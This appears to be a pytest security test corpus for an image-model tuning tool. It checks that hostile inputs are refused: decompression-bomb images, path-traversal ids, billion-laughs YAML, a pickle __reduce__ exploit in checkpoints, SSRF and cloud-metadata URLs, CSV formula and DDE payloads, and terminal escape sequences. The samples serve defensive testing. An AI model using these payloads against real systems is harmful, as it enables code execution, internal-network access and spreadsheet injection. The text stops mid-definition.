"""A table of bad inputs, one parametrized test per kind of input: each case says what it yields.

Images (generated here) are either decoded as upright RGB by ``load_rgb_image`` or raise, and
``RobustImageFolder`` turns a raise into ``None`` (a counted skip). Competition JSON, search specs
and checkpoints end in their module's error naming the key (or a counted skip); SSRF targets are
refused before any socket connects. Untrusted names (files, classes, runs, params) reach CSV files
with a formula escaped and the terminal with control characters escaped.
"""

from __future__ import annotations

import csv
import io
import json
import logging
import sys
from pathlib import Path
from typing import Any, Callable

import numpy as np
import pytest
import torch
import yaml
from PIL import Image, UnidentifiedImageError
from torchvision.transforms.v2.functional import pil_to_tensor

from tests.tuner.datasets.loopback_server import (
    bomb_png,
    cmyk_jpeg,
    encode,
    exif_rotated_jpeg,
    gif,
    jpeg,
    photo,
    png_rgba,
)
from trainables import csvsafe
from trainables.artifacts import write_tables
from trainables.cache import cache_paths, find_cache
from trainables.checkpoint import CheckpointError, load_checkpoint, save_checkpoint
from trainables.config import TrialConfig
from trainables.data import RobustImageFolder, collate_skipping_bad, load_rgb_image
from trainables.engine import EvalStats
from trainables.models import build_model
from tuner.cli import main
from tuner.datasets.competition import CompetitionDataError, load_competition_json
from tuner.datasets.netguard import BlockedURL, check_url
from tuner.errors import UserError
from tuner.lastmile.predict import write_csv_atomically
from tuner.lastmile.score import score_submission
from tuner.spec import SpecError, load_spec, parse_spec
from tuner.terminal import EscapingFormatter, printable, printable_lines
from tuner.tracking.leaderboard import Board, Entry, render

# --------------------------------------------------------------------------------------------
# Images: (file name, bytes factory, expected). Expected is ("rgb", (width, height)) or
# ("raises", exception type, message pattern): a TypeError from a loader bug is no "unreadable".


def _png16() -> bytes:
    # 16-bit grey ramp; the loader must scale by 65535, not clip at 255 (top-left 0, bottom-right max)
    ramp = np.linspace(0, 65535, 48 * 24).reshape(24, 48).astype(np.uint16)
    return encode(Image.fromarray(ramp), "PNG")


def _grey() -> bytes:
    return encode(photo(30, 20, 5).convert("L"), "JPEG")


def _webp() -> bytes:
    return encode(photo(36, 28, 6), "WEBP")


def _palette_png() -> bytes:
    return encode(photo(26, 22, 7).convert("P", palette=Image.Palette.ADAPTIVE), "PNG")


def _truncated_png() -> bytes:
    data = encode(photo(64, 64, 8), "PNG")
    return data[: len(data) // 2]


TRUNCATED = ("raises", OSError, "^image file is truncated")
NOT_AN_IMAGE = ("raises", UnidentifiedImageError, "^cannot identify image file")

IMAGE_CASES: dict[str, tuple[str, Callable[[], bytes], tuple]] = {
    "truncated_jpeg": ("cut.jpg", lambda: jpeg(80, 60, 1)[:700], TRUNCATED),
    "truncated_png": ("cut.png", _truncated_png, TRUNCATED),
    "zero_bytes": ("empty.jpg", lambda: b"", NOT_AN_IMAGE),
    "html_named_jpg": ("page.jpg", lambda: b"<html><body>Image removed</body></html>", NOT_AN_IMAGE),
    "text_named_png": ("notes.png", lambda: b"just some text\n" * 20, NOT_AN_IMAGE),
    "bomb_400_megapixels": ("bomb.png", lambda: bomb_png(20_000),
                            ("raises", Image.DecompressionBombError, "^Image size \\(400000000 pixels\\) exceeds")),
    # 100 MP: above Pillow's warning limit (~89 MP), below its error limit: the loader promotes it.
    "bomb_100_megapixels": ("bomb100.png", lambda: bomb_png(10_000),
                            ("raises", Image.DecompressionBombWarning, "^Image size \\(100000000 pixels\\) exceeds")),
    "cmyk_jpeg": ("cmyk.jpg", lambda: cmyk_jpeg(40, 30, 2), ("rgb", (40, 30))),
    "png_16bit": ("deep.png", _png16, ("rgb", (48, 24))),
    "palette_gif": ("palette.gif", lambda: gif(50, 40, 3), ("rgb", (50, 40))),
    "palette_png": ("palette.png", _palette_png, ("rgb", (26, 22))),
    "webp_named_jpg": ("webp.jpg", _webp, ("rgb", (36, 28))),
    "exif_rotated_jpeg": ("phone.jpg", lambda: exif_rotated_jpeg(40, 20, 4), ("rgb", (20, 40))),
    "one_by_one": ("dot.png", lambda: encode(Image.new("RGB", (1, 1), (9, 8, 7)), "PNG"), ("rgb", (1, 1))),
    "rgba_png": ("alpha.png", lambda: png_rgba(32, 24, 5), ("rgb", (32, 24))),
    "grayscale_jpeg": ("grey.jpg", _grey, ("rgb", (30, 20))),
    # Formats outside the allowlist (trainables.image_files.DECODE_FORMATS) are never parsed.
    "tga_named_jpg": ("tga.jpg", lambda: encode(photo(20, 10, 1), "TGA"), NOT_AN_IMAGE),
    "ico_named_png": ("icon.png", lambda: encode(photo(16, 16, 2), "ICO"), NOT_AN_IMAGE),
    "eps_named_jpg": ("eps.jpg", lambda: encode(photo(16, 16, 3), "EPS"), NOT_AN_IMAGE),
    "ppm_named_png": ("ppm.png", lambda: encode(photo(16, 16, 4), "PPM"), NOT_AN_IMAGE),
}


def _write_case(tmp_path: Path, case: str) -> Path:
    name, make, _ = IMAGE_CASES[case]
    path = tmp_path / "tree" / "cls" / name
    path.parent.mkdir(parents=True)
    path.write_bytes(make())
    return path


@pytest.mark.parametrize("case", list(IMAGE_CASES))
def test_image_loader(case: str, tmp_path: Path) -> None:
    path = _write_case(tmp_path, case)
    expected = IMAGE_CASES[case][2]
    if expected[0] == "raises":
        with pytest.raises(expected[1], match=expected[2]):
            load_rgb_image(path)
        return
    image = load_rgb_image(path)
    assert (image.mode, image.size) == ("RGB", expected[1])
    pixels = np.asarray(image)
    if case == "png_16bit":  # scaled by the 16-bit range: full black .. full white, not clipped
        assert pixels[0, 0].tolist() == [0, 0, 0] and pixels[-1, -1].tolist() == [255, 255, 255]
        assert 100 < pixels[12, 24, 0] < 155  # mid ramp stays mid grey
    if case == "rgba_png":  # the transparent corner (alpha 0) is composited on white
        assert pixels[0, 0].min() > 235
    if case == "grayscale_jpeg":
        assert (pixels[..., 0] == pixels[..., 1]).all() and (pixels[..., 1] == pixels[..., 2]).all()


# Every case, .gif included (torchvision's own list has none; trainables.image_files adds it).
_FOLDER_CASES = list(IMAGE_CASES)


@pytest.mark.parametrize("case", _FOLDER_CASES)
def test_image_folder(case: str, tmp_path: Path) -> None:
    path = _write_case(tmp_path, case)
    # A second, good image: the folder is valid whatever the case's file does.
    (path.parent / "good.jpg").write_bytes(jpeg(16, 16, 9))
    dataset = RobustImageFolder(path.parent.parent, transform=pil_to_tensor)
    assert str(path) in dataset.paths, f"{path.name} is not listed by the folder"
    index = dataset.paths.index(str(path))
    item = dataset[index]
    batch = collate_skipping_bad([(item, index)])
    if IMAGE_CASES[case][2][0] == "raises":
        assert item is None and batch.skipped == 1 and batch.images.numel() == 0
    else:
        width, height = IMAGE_CASES[case][2][1]
        assert item[1] == 0 and batch.skipped == 0
        assert tuple(batch.images.shape) == (1, 3, height, width)  # RGB, upright


_OTHER_FORMATS = ["tga_named_jpg", "ico_named_png", "eps_named_jpg", "ppm_named_png"]


@pytest.mark.parametrize("decoder", ["cache", "stats"])
@pytest.mark.parametrize("case", _OTHER_FORMATS)
def test_other_decoders_refuse_formats_outside_the_allowlist(case: str, decoder: str, tmp_path: Path) -> None:
    from tuner.datasets.cache_decode import decode_resized
    from tuner.datasets.stats import load_rgb_array

    path = _write_case(tmp_path, case)
    with pytest.raises(UnidentifiedImageError):
        if decoder == "cache":
            decode_resized(str(path), 8, "squash")
        else:
            load_rgb_array(path, 8)


# --------------------------------------------------------------------------------------------
# Competition JSON: (file content, expected). Expected is ("error", substrings) or
# ("skip", image_id, reason substring) or ("accepted", warning substring).

_GOOD = {"url": ["http://img.example.com/1.jpg"], "image_id": 1}


def _one(image_id: Any) -> dict:
    return {"images": [{"url": ["http://a/b.jpg"], "image_id": image_id}]}


COMPETITION_CASES: dict[str, tuple[Any, tuple]] = {
    "not_json": ('{"images": [', ("error", ["not valid JSON", "line 1"])),
    "top_level_list": ([_GOOD], ("error", ["top level must be a JSON object"])),
    "missing_images": ({"annotations": []}, ("error", ["'images'"])),
    "string_url": (
        {"images": [{"url": "http://img.example.com/1.jpg", "image_id": 1}]},
        ("accepted", "plain string"),
    ),
    "empty_url_list": ({"images": [{"url": [], "image_id": 3}]}, ("skip", 3, "no URL")),
    "file_url": (
        {"images": [{"url": ["file:///etc/passwd"], "image_id": 4}]},
        ("skip", 4, "unsupported URL scheme 'file'"),
    ),
    "duplicate_ids": ({"images": [_GOOD, _GOOD]}, ("error", ["images[1].image_id", "duplicate id 1"])),
    "string_id": (
        _one("7"),
        ("error", ["images[0].image_id", "positive integer", "'7'"]),
    ),
    "float_id": (_one(1.5), ("error", ["images[0].image_id"])),
    "bool_id": (_one(True), ("error", ["images[0].image_id"])),
    "zero_id": (_one(0), ("error", ["images[0].image_id"])),
    "path_traversal_id": (
        _one("../../etc/passwd"),
        ("error", ["images[0].image_id", "../../etc/passwd"]),
    ),
    "negative_label": (
        {"images": [_GOOD], "annotations": [{"image_id": 1, "label_id": -3}]},
        ("error", ["annotations[0].label_id", "non-negative"]),
    ),
    "traversal_label": (
        {"images": [_GOOD], "annotations": [{"image_id": 1, "label_id": "../x"}]},
        ("error", ["annotations[0].label_id"]),
    ),
    "annotation_unknown_image": (
        {"images": [_GOOD], "annotations": [{"image_id": 99, "label_id": 2}]},
        ("error", ["annotations[0].image_id", "unknown image 99"]),
    ),
    "url_not_string": ({"images": [{"url": [42], "image_id": 1}]}, ("error", ["images[0].url[0]"])),
    # A 300-digit id would become a file name longer than NAME_MAX: skipped, not fatal.
    "id_300_digits": (_one(10**299), ("skip", 10**299, "below 2**63")),
    "id_2_pow_63": (_one(2**63), ("skip", 2**63, "image_id 9223372036854775808")),
}


@pytest.mark.parametrize("case", list(COMPETITION_CASES))
def test_competition_json(case: str, tmp_path: Path) -> None:
    content, expected = COMPETITION_CASES[case]
    path = tmp_path / "train.json"
    path.write_text(content if isinstance(content, str) else json.dumps(content))
    if expected[0] == "error":
        with pytest.raises(CompetitionDataError) as info:
            load_competition_json(path)
        message = str(info.value)
        assert message.startswith("train.json: ") and "\n" not in message
        for part in expected[1]:
            assert part in message
        return
    index = load_competition_json(path)
    if expected[0] == "skip":
        assert index.items == []
        assert len(index.skipped) == 1 and index.skipped[0][0] == expected[1]
        assert expected[2] in index.skipped[0][1]
        assert any("1 image(s) skipped" in w for w in index.warnings)
    else:
        assert [item.urls for item in index.items] == [("http://img.example.com/1.jpg",)]
        assert any(expected[1] in w for w in index.warnings)


# --------------------------------------------------------------------------------------------
# Search specs: (change to a valid spec, substrings of the SpecError message).

SECRET = "hunter2-s3cret"


def _valid_spec(tmp_path: Path) -> dict:
    return {
        "name": "t",
        "data": {"train": str(tmp_path / "train"), "val": str(tmp_path / "val"), "image_size": 32},
        "fixed": {"epochs": 1, "arch": "resnet18"},
        "space": {"lr": {"loguniform": [0.001, 0.1]}, "batch_size": {"choice": [32, 64]}},
    }


SPEC_CASES: dict[str, tuple[Callable[[dict], Any], list[str]]] = {
    "unknown_top_level_key": (lambda r: r.update(colour="red"), ["s.yaml: colour: unknown key"]),
    "low_equals_high": (
        lambda r: r["space"].update(lr={"uniform": [0.1, 0.1]}),
        ["s.yaml: space.lr.uniform: low must be < high"],
    ),
    "low_above_high": (
        lambda r: r["space"].update(lr={"uniform": [0.5, 0.1]}),
        ["s.yaml: space.lr.uniform: low must be < high"],
    ),
    "empty_choice": (lambda r: r["space"].update(batch_size={"choice": []}), ["space.batch_size.choice"]),
    "unknown_arch": (lambda r: r["fixed"].update(arch="vgg99"), ["s.yaml: fixed: arch:", "vgg99"]),
    "unknown_arch_in_choice": (
        lambda r: r["space"].update(arch={"choice": ["resnet18", "vgg99"]}) or r["fixed"].pop("arch"),
        ["s.yaml: space.arch:", "vgg99"],
    ),
    "unknown_optimizer": (lambda r: r["fixed"].update(optimizer="rmsprop"), ["fixed: optimizer:", "rmsprop"]),
    "mode_maximise": (lambda r: r.update(mode="maximise"), ["s.yaml: mode: must be one of max, min"]),
    "nan_bound": (lambda r: r["space"].update(lr={"uniform": [float("nan"), 1]}), ["space.lr.uniform"]),
    "name_with_path": (lambda r: r.update(name="../../etc"), ["s.yaml: name:"]),
    "literal_password_in_storage": (
        lambda r: r.update(storage=f"postgresql://tuner:{SECRET}@db.internal/optuna"),
        ["s.yaml: storage: holds a literal credential"],
    ),
    "token_in_storage_query": (
        lambda r: r.update(storage=f"postgresql://db.internal/optuna?password={SECRET}"),
        ["s.yaml: storage: holds a literal credential"],
    ),
}


@pytest.mark.parametrize("case", list(SPEC_CASES))
def test_spec(case: str, tmp_path: Path) -> None:
    raw = _valid_spec(tmp_path)
    parse_spec(raw, source="s.yaml")  # the base is valid: the change alone is refused
    change, parts = SPEC_CASES[case]
    change(raw)
    with pytest.raises(SpecError) as info:
        parse_spec(raw, source="s.yaml")
    message = str(info.value)
    for part in parts:
        assert part in message
    assert SECRET not in message


def test_spec_literal_password_in_tracking(tmp_path: Path) -> None:
    raw = _valid_spec(tmp_path)
    raw["tracking"] = f"http://tuner:{SECRET}@mlflow.internal:5000"
    with pytest.raises(SpecError) as info:
        parse_spec(raw, source="s.yaml")
    assert str(info.value).startswith("s.yaml: tracking: ") and SECRET not in str(info.value)


def test_spec_key_with_control_characters_stays_one_line(tmp_path: Path) -> None:
    raw = _valid_spec(tmp_path)
    raw["bad\nkey\x1b[31m"] = 1
    with pytest.raises(SpecError) as info:
        parse_spec(raw, source="s.yaml")
    message = str(info.value)
    assert "unknown key" in message
    assert message.isprintable(), repr(message)


@pytest.mark.parametrize(
    "text, where",
    [
        ("name: t\nspace: {lr: [1, 2\n", "line 3"),
        ("name: t\n  fixed: 1\n bad", "line 2"),
        ("name: t\ndata: {train: x\tval: y}\n", "line 2"),
        # The "billion laughs": nine lines that stand for 10^9 strings once walked.
        ("a: &a [x, x, x, x, x, x, x, x, x, x]\n"
         + "".join(f"{n}: &{n} [*{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}]\n"
                   for p, n in zip("abcdefgh", "bcdefghi")) + "name: *i\n", "aliases (*name) are not allowed"),
        ("name: t\nfixed: " + "[" * 5000 + "]" * 5000 + "\n", "nested too deeply"),
    ],
    ids=["unclosed_bracket", "bad_indent", "tab_in_flow", "billion_laughs", "deep_nesting"],
)
def test_spec_malformed_yaml(text: str, where: str, tmp_path: Path) -> None:
    path = tmp_path / "broken.yaml"
    path.write_text(text)
    with pytest.raises(SpecError) as info:
        load_spec(path)
    message = str(info.value)
    assert message.startswith("broken.yaml: malformed YAML") and where in message
    assert "\n" not in message
    # A valid YAML of the wrong shape is the parser's error, not a crash
    path.write_text(yaml.safe_dump([1, 2]))
    with pytest.raises(SpecError, match="must hold a mapping"):
        load_spec(path)


# --------------------------------------------------------------------------------------------
# Checkpoints: what torch.load(weights_only=True) must refuse.


class Payload:
    """A class defined here: unpickling it needs this module's code."""

    def __init__(self) -> None:
        self.value = 1


def _pwned(path: str) -> None:  # would run during an unsafe unpickle
    Path(path).write_text("code ran")


class Exploit:
    def __init__(self, path: Path) -> None:
        self.path = str(path)

    def __reduce__(self):
        return (_pwned, (self.path,))


def _ckpt_custom_class(path: Path) -> None:
    torch.save({"model": {}, "extra": Payload()}, path)


def _ckpt_reduce_exploit(path: Path) -> None:
    torch.save({"model": {}, "x": Exploit(path.with_name("ran.txt"))}, path)


def _ckpt_numpy_object(path: Path) -> None:
    torch.save({"model": {}, "rng": np.random.get_state()}, path)  # format-1 style pickled numpy


CHECKPOINT_CASES: dict[str, tuple[Callable[[Path], None], list[str]]] = {
    "custom_class": (_ckpt_custom_class, ["refused", "pickled code"]),
    "reduce_exploit": (_ckpt_reduce_exploit, ["refused", "pickled code"]),
    "numpy_object": (_ckpt_numpy_object, ["refused"]),
    "zero_bytes": (lambda p: p.write_bytes(b""), ["unreadable checkpoint"]),
    "random_bytes": (lambda p: p.write_bytes(np.random.default_rng(0).bytes(4096)), ["checkpoint"]),
    "truncated_zip": (
        lambda p: (torch.save({"model": {"w": torch.ones(100)}}, p), p.write_bytes(p.read_bytes()[:300])),
        ["unreadable checkpoint"],
    ),
    "not_a_tuner_checkpoint": (lambda p: torch.save({"w": torch.ones(2)}, p), ["no 'model' entry"]),
    "plain_list": (lambda p: torch.save([1, 2, 3], p), ["no 'model' entry"]),
}


def _search_folder(folder: Path) -> Path:
    """A search folder as a driver leaves it, every piece of Ray state signed (tuner/search/seal.py)."""
    from tuner.search import seal  # imports ray: only these cases need it

    folder.mkdir()
    (folder / "tuner.pkl").write_bytes(b"tuner")
    seal.seal_tuner_file(str(folder))
    for name in ("experiment_state-1.json", "search_gen_state-1.json", "searcher-state-1.pkl"):
        (folder / name).write_bytes(name.encode())
    seal.seal_folder(str(folder), seal.state_key(create=True), {})
    return folder


def _exploit_bytes(folder: Path) -> bytes:
    return __import__("pickle").dumps(Exploit(folder.parent / "ran.txt"))


# What a writer of the storage (a worker's role) could plant for Ray to unpickle on `tuner resume`.
SEARCH_STATE_CASES: dict[str, tuple[Callable[[Path], None], str]] = {
    "planted_search_gen_state": (lambda f: (f / "search_gen_state-9999.json").write_bytes(_exploit_bytes(f)),
                                 "search_gen_state-9999.json: not signed"),
    "replaced_searcher_state": (lambda f: (f / "searcher-state-1.pkl").write_bytes(_exploit_bytes(f)),
                                "searcher-state-1.pkl: not signed"),
    "replaced_experiment_state": (lambda f: (f / "experiment_state-1.json").write_bytes(b"{}"),
                                  "experiment_state-1.json: not signed"),
    "replaced_tuner_pkl": (lambda f: (f / "tuner.pkl").write_bytes(_exploit_bytes(f)), "tuner.pkl: not signed"),
    "planted_callback_states": (lambda f: (f / "callback-states-1.pkl").write_bytes(_exploit_bytes(f)),
                                "callback-states-1.pkl: not signed"),
    "seal_removed": (lambda f: (f / "tuner-seal.json").unlink(), "is missing"),
    "seal_rewritten": (lambda f: (f / "tuner-seal.json").write_text(
        json.dumps({"files": {}, "previous": {}, "mac": "0" * 64})), "signature does not match"),
}


@pytest.mark.parametrize("case", list(SEARCH_STATE_CASES))
def test_search_state_planted_in_the_storage(case: str, tmp_path: Path) -> None:
    from tuner.search.seal import verify_search_state  # imports ray: only these cases need it

    folder = _search_folder(tmp_path / "search")
    plant, message = SEARCH_STATE_CASES[case]
    plant(folder)
    with pytest.raises(UserError, match=message):
        verify_search_state(str(folder), "search")
    assert not (tmp_path / "ran.txt").exists()  # refused before anything was unpickled


@pytest.mark.parametrize("case", list(CHECKPOINT_CASES))
def test_checkpoint(case: str, tmp_path: Path) -> None:
    make, parts = CHECKPOINT_CASES[case]
    path = tmp_path / "checkpoint.pt"
    make(path)
    with pytest.raises(CheckpointError) as info:
        load_checkpoint(path)
    message = str(info.value)
    assert message.startswith(str(path))
    for part in parts:
        assert part in message
    assert not (tmp_path / "ran.txt").exists()  # nothing from the file was executed


# --------------------------------------------------------------------------------------------
# SSRF: every one refused before a socket connects.

SSRF_CASES: dict[str, tuple[str, str]] = {
    "loopback_v4": ("http://127.0.0.1/", "loopback"),
    "loopback_other": ("http://127.8.9.10:8080/x", "loopback"),
    "rfc1918_10": ("http://10.0.0.1/", "private"),
    "rfc1918_172": ("http://172.16.0.1/", "private"),
    "rfc1918_192": ("http://192.168.1.1/", "private"),
    "cgnat": ("http://100.64.0.1/", "private"),
    "metadata_v4": ("http://169.254.169.254/latest/meta-data/", "metadata"),
    "metadata_alibaba": ("http://100.100.100.200/latest/meta-data/", "metadata"),
    "link_local": ("http://169.254.1.1/", "link-local"),
    "unspecified": ("http://0.0.0.0/", "unspecified"),
    "loopback_v6": ("http://[::1]/", "loopback"),
    "metadata_v6": ("http://[fd00:ec2::254]/", "metadata"),
    "mapped_v6_private": ("http://[::ffff:10.0.0.1]/", "private"),
    "ula_v6": ("http://[fd12:3456::1]/", "private"),
    "file_scheme": ("file:///etc/passwd", "scheme 'file'"),
    "ftp_scheme": ("ftp://x/y", "scheme 'ftp'"),
    "gopher_scheme": ("gopher://x", "scheme 'gopher'"),
    "no_scheme": ("//example.com/x", "scheme '(none)'"),
    "no_host": ("http:///x", "no host"),
    "bad_port": ("http://example.com:99999/", "malformed URL"),
    "localhost_name": ("http://localhost/", "loopback"),
}


@pytest.mark.parametrize("case", list(SSRF_CASES))
def test_ssrf_refused(case: str, sockets: Any) -> None:
    url, reason = SSRF_CASES[case]
    with pytest.raises(BlockedURL) as info:
        check_url(url, allow_loopback=False)
    assert reason in str(info.value)
    assert sockets.connects == []


def test_metadata_stays_refused_when_private_and_loopback_allowed(sockets: Any) -> None:
    for url in ("http://169.254.169.254/", "http://[fd00:ec2::254]/", "http://[::ffff:169.254.169.254]/"):
        with pytest.raises(BlockedURL, match="metadata"):
            check_url(url, allow_loopback=True, allow_private=True)
    assert check_url("http://127.0.0.1:1/", allow_loopback=True) == ["127.0.0.1"]
    assert sockets.connects == []


def test_checkpoint_refusal_names_the_global(tmp_path: Path) -> None:
    path = tmp_path / "checkpoint.pt"
    _ckpt_custom_class(path)
    with pytest.raises(CheckpointError) as info:
        load_checkpoint(path)
    message = str(info.value)
    assert "tests.security.test_corpus.Payload" in message
    assert "\x1b" not in message and "\n" not in message


# Safe to unpickle but not a usable model: `tuner predict` must still answer with one line.
INCOMPLETE_CHECKPOINTS: dict[str, dict] = {
    "model_only": {"model": {}},
    "config_not_a_dict": {"model": {}, "config": "resnet18", "class_to_idx": {"a": 0},
                          "normalisation": {"mean": [0.5] * 3, "std": [0.2] * 3}},
}


@pytest.mark.parametrize("case", list(INCOMPLETE_CHECKPOINTS))
def test_predict_refuses_incomplete_checkpoint(case: str, tmp_path: Path) -> None:
    from tuner.lastmile.predict import predict

    images = tmp_path / "test"
    images.mkdir()
    (images / "1.jpg").write_bytes(jpeg(32, 32, 1))
    checkpoint = tmp_path / "checkpoint.pt"
    torch.save(INCOMPLETE_CHECKPOINTS[case], checkpoint)
    with pytest.raises(UserError, match=str(checkpoint)):
        predict(str(checkpoint), images, tmp_path / "out.csv", progress=False)


# --------------------------------------------------------------------------------------------
# Untrusted text in what the product writes: a file name, class name, run name or MLflow param that
# starts a formula (CSV injection) or holds terminal control codes (ESC, C1, BEL, a newline).

# Cells a spreadsheet would evaluate (OWASP's triggers: = + - @ tab CR), DDE payloads included.
FORMULAS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _read(path: Path) -> str:
    with open(path, newline="") as handle:  # as csv reads it: a "\r" inside a cell stays one
        return handle.read()


def _assert_escaped(cells: list[str], hostile: list[str]) -> None:
    for value in hostile:
        assert value not in cells, f"{value!r} written raw"
        assert "'" + value in cells, f"{value!r} not written as '{value!r}"


def _leaderboard_csv(tmp_path: Path) -> tuple[str, list[str]]:
    param = FORMULAS[0]
    entry = Entry(rank=1, trial=FORMULAS[1], run_id="abc", name=FORMULAS[2], status=FORMULAS[3],
                  best=-0.5, val_acc=0.25, val_loss=-1e-3, epochs=2,
                  params={param: FORMULAS[4], "lr": "-0.5"})
    board = Board("s", "1", "val_acc", "max", [param, "lr"], [entry])
    return render(board, "csv"), FORMULAS[:5]


def _submission_csv(tmp_path: Path) -> tuple[str, list[str]]:
    out = tmp_path / "submission.csv"
    write_csv_atomically(out, [("12", FORMULAS[0]), (FORMULAS[1], "3"), ("-5", FORMULAS[5])])
    return _read(out), [FORMULAS[0], FORMULAS[1], FORMULAS[5]]


def _trial_tables(tmp_path: Path) -> tuple[str, list[str]]:
    names = FORMULAS[:3]
    stats = EvalStats(loss=1.0, accuracy=0.5, top5=1.0, images=6, skipped=0, seconds=1.0,
                      confusion=torch.tensor([[1, 1, 0], [0, 2, 0], [1, 0, 1]]))
    out = write_tables(tmp_path, config={}, summary={}, class_names=names, stats=stats)
    return _read(out / "per_class.csv") + _read(out / "confusion.csv"), names


CSV_WRITERS: dict[str, Callable[[Path], tuple[str, list[str]]]] = {
    "leaderboard_csv": _leaderboard_csv,
    "submission_csv": _submission_csv,
    "per_class_and_confusion_csv": _trial_tables,
}


@pytest.mark.parametrize("writer", list(CSV_WRITERS))
def test_csv_writer_escapes_formulas(writer: str, tmp_path: Path) -> None:
    text, hostile = CSV_WRITERS[writer](tmp_path)
    cells = _cells(text)
    _assert_escaped(cells, hostile)
    # Numbers stay numbers: a negative metric, a negative numeric param or id is no formula.
    if writer == "leaderboard_csv":
        assert cells[7] == "'" + FORMULAS[0]  # the param's name, in the header
        assert cells[11:] == ["1", "'" + FORMULAS[1], "'" + FORMULAS[3], "-0.5", "0.25", "-0.001", "2",
                              "'" + FORMULAS[4], "-0.5", "abc", "'" + FORMULAS[2]]
    if writer == "submission_csv":
        assert cells == ["id", "predicted", "12", "'" + FORMULAS[0], "'" + FORMULAS[1], "3",
                         "-5", "'" + FORMULAS[5]]


def test_score_reads_back_an_escaped_submission(tmp_path: Path) -> None:
    """The escape is for spreadsheets: `tuner score` compares the names the model predicted."""
    write_csv_atomically(tmp_path / "sub.csv", [("1", "=cat"), ("2", "-dog"), ("=3", "bird")])
    (tmp_path / "key.csv").write_text("id,label\n1,=cat\n2,-dog\n=3,bird\n")
    assert score_submission(tmp_path / "sub.csv", tmp_path / "key.csv") == (1.0, 3)


def _tiny_checkpoint(directory: Path, class_names: list[str]) -> Path:
    config = TrialConfig.from_dict({"train_dir": "train", "val_dir": "val", "image_size": 16, "width": 0.125})
    model = build_model(config.arch, num_classes=len(class_names), image_size=16, width=0.125)
    return save_checkpoint(directory, model=model.state_dict(), config=config.to_dict(),
                           class_to_idx={name: i for i, name in enumerate(class_names)},
                           normalisation={"mean": [0.5] * 3, "std": [0.25] * 3})


def test_predict_names_from_the_folder(tmp_path: Path, capsys, monkeypatch) -> None:
    """`tuner predict` on a folder of hostile names: ².jpg (a digit int() refuses) is predicted under
    its name after the numeric ids, a formula id and class are escaped in the CSV, an unreadable file
    with ESC in its name is a counted skip shown escaped on the terminal."""
    monkeypatch.chdir(tmp_path)
    checkpoint = _tiny_checkpoint(tmp_path / "model", ["=1+1"])  # one class: every row predicts it
    images = tmp_path / "test"
    images.mkdir()
    for name in ("1.jpg", "10.jpg", "2.jpg", "².jpg", "=2+5.jpg"):
        Image.new("RGB", (16, 16), (200, 30, 30)).save(images / name)
    (images / "\x1b[2Jgone.jpg").write_bytes(b"<html>removed</html>")
    code = main(["predict", str(checkpoint), "--images", str(images), "--out", "sub.csv", "--quiet"])
    captured = capsys.readouterr()
    out = captured.out
    assert code == 0, captured.err
    rows = list(csv.reader(io.StringIO(_read(tmp_path / "sub.csv"))))
    assert rows == [["id", "predicted"], ["1", "'=1+1"], ["2", "'=1+1"], ["10", "'=1+1"],
                    ["'=2+5", "'=1+1"], ["²", "'=1+1"]]
    assert "wrote 5 rows" in out and "skipped 1 file(s)" in out
    assert "\x1b" not in out and "\\x1b[2Jgone" in out


def _images_tree(root: Path, classes: dict[str, int]) -> Path:
    for name, count in classes.items():
        (root / name).mkdir(parents=True)
        for i in range(count):
            Image.new("RGB", (12, 12), (i * 40, 80, 20)).save(root / name / f"{i}.jpg")
    return root


ESC_DIR = "data\x1b]0;owned\x07"  # sets the terminal's title, then rings
ESC_CLASS = "\x1b[2J\x9b31mred\u202e"  # clears the screen (C0 ESC, C1 CSI), then a bidi override


def _cli_split(tmp_path: Path) -> list[str]:
    root = _images_tree(tmp_path / ESC_DIR, {ESC_CLASS: 1, "plain": 4})
    return ["data", "split", str(root), "--val-fraction", "0.5"]


def _cli_preview(tmp_path: Path) -> list[str]:
    root = _images_tree(tmp_path / ESC_DIR, {ESC_CLASS: 2, "plain": 2})
    return ["data", "preview-augment", str(root), "--preset", "none", "--images", "2", "--draws", "1",
            "--tile", "16", "--out", str(tmp_path / ESC_DIR / "grid.png")]


def _cli_missing_images(tmp_path: Path) -> list[str]:
    return ["predict", "model.pt", "--images", str(tmp_path / ESC_DIR), "--out", "sub.csv"]


def _cli_score(tmp_path: Path) -> list[str]:
    (tmp_path / ESC_DIR).mkdir()
    (tmp_path / ESC_DIR / "sub.csv").write_text("id,predicted\n1,a\n")
    (tmp_path / "key.csv").write_text("id,label\n1,a\n")
    return ["score", str(tmp_path / ESC_DIR / "sub.csv"), "--key", str(tmp_path / "key.csv")]


# (argv factory, what must be shown escaped, exit status)
CLI_NAMES: dict[str, tuple[Callable[[Path], list[str]], list[str], int]] = {
    "data_split": (_cli_split, ["data\\x1b]0;owned\\x07", "\\x1b[2J\\x9b31mred\\u202e"], 0),
    "preview_augment": (_cli_preview, ["data\\x1b]0;owned\\x07", "\\x1b[2J\\x9b31mred\\u202e"], 0),
    "predict_error_line": (_cli_missing_images, ["data\\x1b]0;owned\\x07"], 2),
    "score": (_cli_score, ["data\\x1b]0;owned\\x07"], 0),
}


@pytest.mark.parametrize("case", list(CLI_NAMES))
def test_cli_shows_control_characters_escaped(case: str, tmp_path: Path, capsys, monkeypatch) -> None:
    monkeypatch.chdir(tmp_path)
    make, shown, status = CLI_NAMES[case]
    assert main(make(tmp_path)) == status
    captured = capsys.readouterr()
    text = captured.out + captured.err
    for part in shown:
        assert part in text
    controls = [c for c in text if not c.isprintable() and c != "\n"]
    assert controls == [], text


def test_leaderboard_table_shows_names_as_text() -> None:
    # Rich markup in a run name raised MarkupError ("[/]"), or linked ("[link=…]"); ESC reached rich.
    entry = Entry(rank=1, trial="[/]", run_id="r", name="n", status="\x1b[2Jdone", best=0.5, val_acc=0.5,
                  val_loss=1.0, epochs=1, params={"arch": "[link=http://x.example]resnet18"})
    text = render(Board("s[/]", "1", "val_acc", "max", ["arch"], [entry]), "table")
    for part in ("search s[/]:", "│ [/] ", "\\x1b[2Jdone", "[link=http://x.example]resnet18"):
        assert part in text
    assert [c for c in text if not c.isprintable() and c != "\n"] == []


# (cell value, what is written): only text a spreadsheet would run is escaped.
CSV_CELLS: dict[str, tuple[Any, Any]] = {
